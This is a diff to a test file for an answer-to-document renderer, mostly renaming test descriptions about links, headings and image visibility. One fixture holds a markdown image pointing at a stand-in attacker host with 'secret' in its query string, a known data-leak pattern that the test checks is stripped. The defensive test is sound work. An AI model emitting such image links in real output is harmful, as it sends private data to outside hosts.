@@ -26,14 +26,14 @@ it('an incomplete answer has no links and shows external addresses as text', () 
   )
 })
 
-it('an answer fetches nothing from elsewhere', () => {
+it('an answer document loads nothing from other sites', () => {
   const { nodes } = whole(
     'Words ![x](https://evil.example/?q=secret)\n\n\n\n:::youtube {src="https://youtu.be/dQw4w9WgXcQ"} :::',
   )
   expect(JSON.stringify(nodes)).not.toMatch(/evil|"youtube"/)
 })
 
-it('a question is the title of its answer, whose headings stand below it', () => {
+it('a question becomes the title above all headings of its answer', () => {
   const because = whole('## Because\n\nSee [there](/projects/7/12#start).')
   const composed = [
     composeAnswer(exchange('a', 'Why?'), because, names),
@@ -48,7 +48,7 @@ it('a question is the title of its answer, whose headings stand below it', () =>
   expect([...because.addresses]).toEqual([[12, '/projects/7/12']])
 })
 
-it('an answer as blocks links pages of the same project by id and others by address', () => {
+it('answer blocks link to pages of the same project by id and to other pages by address', () => {
   const read = whole('See [here](/projects/7/12#start) and\n\n- [there](/projects/8/30#end)')
   const blocks = blocksFor(exchange('a', 'Why?', [7, 8]), read, 7, 'https://docs.example.org')
   expect(toMarkdown({ type: 'doc', content: blocks }).trim()).toBe(
@@ -56,7 +56,7 @@ it('an answer as blocks links pages of the same project by id and others by addr
   )
 })
 
-it('images go into a page only if everyone who reads the page can see them', () => {
+it('answer blocks include images only if all readers of the page can see them', () => {
   const read = whole(`Look:\n\n![The pier](/api/blob/${'a'.repeat(64)})`)
   const types = (projectIds: number[]) =>
     blocksFor(exchange('a', 'Where?', projectIds), read, 7, 'https://docs.example.org').map(({ type }) => type)
